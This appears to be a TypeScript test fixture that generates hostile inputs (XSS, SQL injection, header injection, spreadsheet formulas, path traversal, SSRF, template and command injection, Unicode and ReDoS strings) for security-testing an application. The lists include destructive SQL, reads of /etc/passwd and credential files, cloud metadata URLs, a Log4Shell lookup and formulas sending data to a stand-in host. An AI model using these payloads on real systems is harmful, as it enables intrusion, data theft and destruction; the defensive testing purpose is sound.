/** One hostile input: the kind of attack, and the text that carries it. Every host and address in it is invented. */
export interface Hostile {
  readonly kind: HostileKind;
  readonly text: string;
}

type HostileKind =
  'xss' | 'sql' | 'header' | 'formula' | 'path' | 'prototype' | 'unicode' | 'redos' | 'ssrf' | 'template';

/** What would run, if a page took it for markup. */
const SCRIPTS = [
  '<script>globalThis.polluted=1</script>',
  '<ScRiPt src=//evil.invalid/x.js></sCrIpT>',
  '<img src=x onerror=globalThis.polluted=1>',
  '<img/src=`x`onerror=globalThis.polluted=1>',
  '<svg/onload=globalThis.polluted=1>',
  '<svg><script>globalThis.polluted=1</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<iframe src=javascript:alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<a href=javascript:alert(1)>x</a>',
  '<a href="java&#x0A;script:alert(1)">x</a>',
  '<form action=//evil.invalid><input name=key>',
  '<button formaction=//evil.invalid>x</button>',
  '<base href=//evil.invalid/>',
  '<meta http-equiv=refresh content="0;url=//evil.invalid">',
  '<link rel=stylesheet href=//evil.invalid/x.css>',
  '<style>@import"//evil.invalid/x.css"</style>',
  '<object data=data:text/html,<script>alert(1)</script>>',
  '<embed src=//evil.invalid/x.swf>',
  '<video><source onerror=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<select onchange=alert(1)><option>1<option>2</select>',
  '<marquee onstart=alert(1)>',
  '<template><img src=x onerror=alert(1)></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><x onload=alert(1)>',
  '<plaintext>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<isindex action=javascript:alert(1) type=image>',
  '<textarea autofocus onfocus=alert(1)>',
  '<dialog open onclose=alert(1)>',
];
/** Ways out of where a page may have put it, and ways past a filter. */
const CONTEXTS: readonly ((script: string) => string)[] = [
  (script) => script,
  (script) => `"><${script.slice(1)}`,
  (script) => `'>${script}`,
  (script) => `</title></textarea></pre></style>${script}`,
  (script) => `" onfocus="alert(1)" x="${script}`,
  (script) => script.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (script) => script.replaceAll('<', '\uFF1C').replaceAll('>', '\uFF1E'),
  (script) => `--!>${script}<!--`,
  (script) => encodeURIComponent(script),
];

const STATEMENTS = [
  "'; DROP TABLE children; --",
  "'; DELETE FROM cases; --",
  "'; UPDATE api_keys SET role='cme-officer'; --",
  "' OR '1'='1",
  "' OR 1=1 --",
  '" OR ""="',
  "') OR ('1'='1",
  "' UNION SELECT key_hash, 1, 1 FROM api_keys --",
  "' UNION ALL SELECT NULL,NULL,NULL,version() --",
  "'||(SELECT pg_sleep(5))||'",
  '1; SELECT pg_sleep(5) --',
  "'; COPY cases TO PROGRAM 'touch /tmp/polluted'; --",
  "'; CREATE TABLE polluted(x int); --",
  "'; ALTER ROLE postgres PASSWORD 'x'; --",
  "\\'; DROP TABLE schools; --",
  '$$; DROP TABLE events; $$',
  "E'\\x27; DROP TABLE views; --",
  '1 AND 1=CAST((SELECT version()) AS int)',
  "'/**/OR/**/1=1/**/--",
  "admin'--",
  '%',
  '_%_%_%',
  "%' ESCAPE '\\",
  "'; SET row_security = off; --",
  "'; SET ROLE postgres; --",
];
const AROUND_STATEMENTS: readonly ((statement: string) => string)[] = [
  (statement) => statement,
  (statement) => `Example${statement}`,
  (statement) => `900001${statement}`,
  (statement) => statement.replaceAll(' ', '/**/'),
  (statement) => statement.replaceAll("'", '\u02BC'),
  (statement) => statement.replaceAll("'", "''"),
  (statement) => encodeURIComponent(statement),
  (statement) => `(${statement})`,
];

const LINE_BREAKS = [
  '\r\n',
  '\n',
  '\r',
  '\r\n\t',
  '\u2028',
  '\u2029',
  '\u0085',
  '\u560D\u560A',
  '%0d%0a',
  '\v',
  '\f',
];
const INJECTED = [
  'Bcc: evil@evil.invalid',
  'To: evil@evil.invalid',
  'Cc: evil@evil.invalid, other@evil.invalid',
  'Subject: other',
  'Content-Type: text/html; charset=utf-8',
  'Set-Cookie: session=evil',
  'Location: https://evil.invalid/',
  'X-Evil: 1',
  '.\r\nMAIL FROM:<evil@evil.invalid>\r\nRCPT TO:<evil@evil.invalid>\r\nDATA',
  '\r\n<html><script>alert(1)</script>',
  'RCPT TO:<evil@evil.invalid>',
  'HTTP/1.1 200 OK\r\nContent-Length: 0',
  'Message-ID: <evil@evil.invalid>',
  'Reply-To: evil@evil.invalid',
];

const FORMULA_SIGNS = ['=', '+', '-', '@', '\t=', '\r=', '\n=', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20', ' ='];
const FORMULAS = [
  '1+1',
  'SUM(A1:A9)',
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://evil.invalid/?"&A1,"click")',
  'WEBSERVICE("http://evil.invalid/"&A1)',
  'IMPORTXML("http://evil.invalid","//a")',
  'DDE("cmd";"/C calc";"x")',
  '1";=2',
  '1,=2',
  '1\r\n=2',
];

const FILES = [
  'etc/passwd',
  'etc/shadow',
  'proc/self/environ',
  'windows/win.ini',
  'secret',
  'demo.json',
  '.git/config',
];
const UPWARDS = [
  '../../../../../../',
  '..%2f..%2f..%2f..%2f..%2f',
  '%2e%2e/%2e%2e/%2e%2e/%2e%2e/',
  '..%252f..%252f..%252f',
  '....//....//....//',
  '..\\..\\..\\..\\',
  '..%5c..%5c..%5c',
  '..%c0%af..%c0%af',
  '..%ef%bc%8f..%ef%bc%8f',
  '/',
  '//',
  'file:///',
  '%00/../../',
  './././../../',
  '~/',
];

const SSRF_TARGETS = [
  '169.254.169.254/latest/meta-data/',
  'metadata.google.internal/computeMetadata/v1/',
  '[::ffff:127.0.0.1]/',
  '2130706433/',
  '0x7f000001/',
  '0177.0.0.1/',
  '127.1/',
  'localhost:7233/',
  '0.0.0.0:5432/',
  'evil.invalid@127.0.0.1/',
];
const SCHEMES = [
  'http://',
  'https://',
  'ftp://',
  'gopher://',
  'dict://',
  'ldap://',
  'file://',
  '//',
  'jar:http://',
];

const TEMPLATES = [
  '{{7*7}}',
  '${7*7}',
  '#{7*7}',
  '<%= 7*7 %>',
  '{{constructor.constructor("return process")().exit()}}',
  '${process.exit(1)}',
  '{reference}',
  '{cmeOfficer}',
  '{link}',
  '%s%s%s%n',
  '${jndi:ldap://evil.invalid/x}',
  '$(touch /tmp/polluted)',
  '`touch /tmp/polluted`',
  '; touch /tmp/polluted',
  '| touch /tmp/polluted',
  '&& touch /tmp/polluted',
  '!!js/function "x"',
  '*)(uid=*))(|(uid=*',
  "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
  '__proto__',
];

/** Code points that are not seen, that turn text around, that compose, that are no characters, or that two readers read differently. */
const CODE_POINTS = [
  ...[0x00, 0x01, 0x07, 0x08, 0x09, 0x0a, 0x0d, 0x1b, 0x1f, 0x7f, 0x80, 0x85, 0x9b, 0x9f, 0xa0, 0xad],
  ...[0x300, 0x301, 0x308, 0x34f, 0x35f, 0x489, 0x5bf, 0x61c, 0x115f, 0x1160, 0x1680, 0x17b4, 0x180e],
  ...[0x2000, 0x2003, 0x200b, 0x200c, 0x200d, 0x200e, 0x200f, 0x2028, 0x2029, 0x202a, 0x202b, 0x202c],
  ...[0x202d, 0x202e, 0x202f, 0x205f, 0x2060, 0x2061, 0x2066, 0x2067, 0x2068, 0x2069, 0x206a, 0x206f],
  ...[0x20e3, 0x212a, 0x212b, 0x2044, 0x2215, 0x3000, 0x3164, 0xd800, 0xdbff, 0xdc00, 0xdfff, 0xe000],
  ...[0xf8ff, 0xfb01, 0xfdd0, 0xfdfa, 0xfe00, 0xfe0f, 0xfeff, 0xff07, 0xff1c, 0xffa0, 0xfff9, 0xfffb],
  ...[
    0xfffc, 0xfffd, 0xfffe, 0xffff, 0x1d173, 0x1f3fb, 0x1f600, 0x1ffff, 0xe0001, 0xe0041, 0xe007f, 0x10ffff,
  ],
];
const AMONG_LETTERS: readonly ((sign: string) => string)[] = [
  (sign) => `A${sign}B`,
  (sign) => `${sign}AB${sign}`,
  (sign) => `A${sign.repeat(30)}B`,
];

/** Texts that a pattern with two ways to match could look at for long. Longer than any field takes, mostly. */
const REPEATED = [
  '@',
  'a@',
  ' ',
  '\t',
  'a.',
  '.',
  '-',
  '_',
  '0',
  '9',
  '%',
  '\\',
  '"',
  '/',
  '~',
  'a,',
  '=',
  'é',
];
const LENGTHS = [90, 4_000, 80_000];

const pairs = <A, B>(some: readonly A[], others: readonly B[], join: (one: A, other: B) => string) =>
  some.flatMap((one) => others.map((other) => join(one, other)));
const of = (kind: HostileKind, texts: readonly string[]): Hostile[] =>
  [...new Set(texts)].map((text) => ({ kind, text }));

/** Texts for every place that takes one: {@link Hostile.text} as it is meant, not yet written as JSON, URL or SQL. */
const TEXTS: readonly Hostile[] = [
  ...of(
    'xss',
    pairs(SCRIPTS, CONTEXTS, (script, within) => within(script)),
  ),
  ...of(
    'sql',
    pairs(STATEMENTS, AROUND_STATEMENTS, (statement, around) => around(statement)),
  ),
  ...of(
    'header',
    pairs(LINE_BREAKS, INJECTED, (lineBreak, header) => `Sample${lineBreak}${header}`),
  ),
  ...of(
    'formula',
    pairs(FORMULA_SIGNS, FORMULAS, (sign, formula) => sign + formula),
  ),
  ...of(
    'path',
    pairs(UPWARDS, FILES, (up, file) => up + file),
  ),
  ...of(
    'ssrf',
    pairs(SCHEMES, SSRF_TARGETS, (scheme, target) => scheme + target),
  ),
  ...of('template', TEMPLATES),
  ...of(
    'unicode',
    pairs(CODE_POINTS, AMONG_LETTERS, (point, among) => among(String.fromCodePoint(point))),
  ),
  ...of(
    'redos',
    pairs(REPEATED, LENGTHS, (unit, length) => `${unit.repeat(length / unit.length)} x!`),
  ),
];

export const textsOf = (...kinds: readonly HostileKind[]) => TEXTS.filter(({ kind }) => kinds.includes(kind));

/** Of a length that a request can have together with others. */
export const SHORT_TEXTS = TEXTS.filter(({ text }) => text.length <= 4_000);
export const LONG_TEXTS = TEXTS.filter(({ text }) => text.length > 4_000);
